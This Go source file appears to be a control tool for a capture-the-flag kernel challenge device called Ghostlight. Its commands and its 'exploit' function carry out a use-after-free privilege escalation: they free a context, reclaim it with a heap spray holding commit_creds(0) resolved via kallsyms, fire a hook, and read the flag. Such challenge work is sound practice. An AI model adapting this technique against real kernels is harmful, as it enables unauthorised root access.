package main

import (
	"bufio"
	"context"
	"fmt"
	"log"
	"os"
	"strconv"
	"strings"
	"time"

	"github.com/urfave/cli/v2"
	"gitlab.com/stephen-fox/uafkit/ghost"
	"gitlab.com/stephen-fox/uafkit/memory"
)

const (
	appName = "ghostctl"

	deviceFlag = "device"

	defaultPokeCount   = 10000
	defaultReadFlagLen = 1024
)

func main() {
	log.SetFlags(0)

	app := &cli.App{
		Name:  appName,
		Usage: "control utility for the Ghostlight device",
		Description: "Numbers accept a 0x, 0o or 0b prefix. Function addresses may also\n" +
			"be given as kernel symbol names, which are resolved with kallsyms.\n\n" +
			"Each invocation is a separate task. Credentials gained by poke do\n" +
			"not carry over to a later readflag; the exploit command does both.",
		Flags: []cli.Flag{
			&cli.StringFlag{
				Name:    deviceFlag,
				Aliases: []string{"d"},
				Usage:   "device socket `PATH`",
				Value:   ghost.DefaultSocketPath,
				EnvVars: []string{"GHOSTLIGHT_DEVICE"},
			},
		},
		Commands: []*cli.Command{
			{
				Name:  "hookon",
				Usage: "enable the getpid hook",
				Action: func(c *cli.Context) error {
					return withDevice(c, func(d *ghost.Client) error {
						return d.HookOn()
					})
				},
			},
			{
				Name:  "hookoff",
				Usage: "disable the getpid hook",
				Action: func(c *cli.Context) error {
					return withDevice(c, func(d *ghost.Client) error {
						return d.HookOff()
					})
				},
			},
			{
				Name:      "arm",
				Usage:     "allocate a new context holding ARG",
				ArgsUsage: "ARG",
				Action: func(c *cli.Context) error {
					return withDevice(c, func(d *ghost.Client) error {
						arg, err := numberArg(c, 0)
						if err != nil {
							return err
						}

						return d.Arm(arg)
					})
				},
			},
			{
				Name:  "free",
				Usage: "free the context (the pointer is kept)",
				Action: func(c *cli.Context) error {
					return withDevice(c, func(d *ghost.Client) error {
						return d.Free()
					})
				},
			},
			{
				Name:      "spray",
				Usage:     "allocate N objects holding FN and ARG",
				ArgsUsage: "N FN ARG",
				Action: func(c *cli.Context) error {
					return withDevice(c, func(d *ghost.Client) error {
						n, err := numberArg(c, 0)
						if err != nil {
							return err
						}

						fn, err := functionArg(d, c, 1)
						if err != nil {
							return err
						}

						arg, err := numberArg(c, 2)
						if err != nil {
							return err
						}

						return d.Spray(uint32(n), fn, arg)
					})
				},
			},
			{
				Name:  "poke",
				Usage: "make getpid system calls to fire the hook",
				Flags: []cli.Flag{
					&cli.UintFlag{
						Name:    "count",
						Aliases: []string{"n"},
						Usage:   "number of system calls",
						Value:   defaultPokeCount,
					},
				},
				Action: func(c *cli.Context) error {
					return withDevice(c, func(d *ghost.Client) error {
						pid, err := d.Poke(uint32(c.Uint("count")))
						if err != nil {
							return err
						}

						fmt.Println("pid:", pid)

						return nil
					})
				},
			},
			{
				Name:      "readflag",
				Usage:     "read up to LEN bytes of the flag (requires root)",
				ArgsUsage: "[LEN]",
				Action: func(c *cli.Context) error {
					return withDevice(c, func(d *ghost.Client) error {
						n := uint64(defaultReadFlagLen)

						if c.NArg() > 0 {
							var err error

							n, err = numberArg(c, 0)
							if err != nil {
								return err
							}
						}

						if n == 0 || n > ghost.MaxFlagLen {
							return fmt.Errorf("invalid len (max %d)", ghost.MaxFlagLen)
						}

						flag, err := d.ReadFlag(uint32(n))
						if err != nil {
							return err
						}

						if len(flag) == 0 {
							fmt.Println("(no bytes returned)")
							return nil
						}

						fmt.Println(string(flag))

						return nil
					})
				},
			},
			{
				Name:    "kallsyms",
				Aliases: []string{"syms"},
				Usage:   "print the kernel symbols",
				Action: func(c *cli.Context) error {
					return withDevice(c, func(d *ghost.Client) error {
						syms, err := d.Kallsyms()
						if err != nil {
							return err
						}

						fmt.Print(syms)

						return nil
					})
				},
			},
			{
				Name:  "exploit",
				Usage: "free the context, reclaim it with commit_creds(0), fire the hook and read the flag",
				Action: func(c *cli.Context) error {
					return withDevice(c, exploit)
				},
			},
		},
	}

	err := app.Run(os.Args)
	if err != nil {
		log.Fatalln("fatal:", err)
	}
}

func withDevice(c *cli.Context, fn func(*ghost.Client) error) error {
	ctx, cancelFn := context.WithTimeout(c.Context, 5*time.Second)
	defer cancelFn()

	path := c.String(deviceFlag)

	d, err := ghost.Open(ctx, path)
	if err != nil {
		return fmt.Errorf("failed to open %s - %w", path, err)
	}
	defer d.Close()

	return fn(d)
}

func numberArg(c *cli.Context, i int) (uint64, error) {
	if c.NArg() <= i {
		return 0, fmt.Errorf("missing argument %d (usage: %s %s)",
			i+1, c.Command.Name, c.Command.ArgsUsage)
	}

	p, err := memory.PointerMakerForX86_64().ParseUint(c.Args().Get(i), 0)
	if err != nil {
		return 0, fmt.Errorf("failed to parse argument %d - %w", i+1, err)
	}

	return p.Uint(), nil
}

// functionArg parses a function address or resolves a symbol name.
func functionArg(d *ghost.Client, c *cli.Context, i int) (uint64, error) {
	str := c.Args().Get(i)
	if str == "" || isNumber(str) {
		return numberArg(c, i)
	}

	syms, err := d.Kallsyms()
	if err != nil {
		return 0, err
	}

	table, err := parseKallsyms(syms)
	if err != nil {
		return 0, err
	}

	return table.Address(str)
}

func isNumber(str string) bool {
	_, err := strconv.ParseUint(str, 0, 64)
	return err == nil
}

// parseKallsyms loads /proc/kallsyms formatted text into an
// address table.
func parseKallsyms(syms string) (*memory.AddressTable, error) {
	table := memory.NewAddressTable("kernel")

	scanner := bufio.NewScanner(strings.NewReader(syms))
	for scanner.Scan() {
		fields := strings.Fields(scanner.Text())
		if len(fields) != 3 {
			continue
		}

		addr, err := strconv.ParseUint(fields[0], 16, 64)
		if err != nil {
			return nil, fmt.Errorf("failed to parse kallsyms line %q - %w", scanner.Text(), err)
		}

		table.AddSymbol(fields[2], addr)
	}

	return table, scanner.Err()
}

func exploit(d *ghost.Client) error {
	syms, err := d.Kallsyms()
	if err != nil {
		return err
	}

	table, err := parseKallsyms(syms)
	if err != nil {
		return err
	}

	commitCreds, err := table.Address(ghost.CommitCreds)
	if err != nil {
		return err
	}

	log.Printf("%s: 0x%x", ghost.CommitCreds, commitCreds)

	err = d.HookOn()
	if err != nil {
		return err
	}

	err = d.Arm(0x41414141)
	if err != nil {
		return err
	}

	err = d.Free()
	if err != nil {
		return err
	}

	err = d.Spray(1, commitCreds, 0)
	if err != nil {
		return err
	}

	pid, err := d.Poke(1)
	if err != nil {
		return err
	}

	log.Printf("fired hook as pid %d", pid)

	flag, err := d.ReadFlag(defaultReadFlagLen)
	if err != nil {
		return err
	}

	fmt.Println(string(flag))

	return nil
}
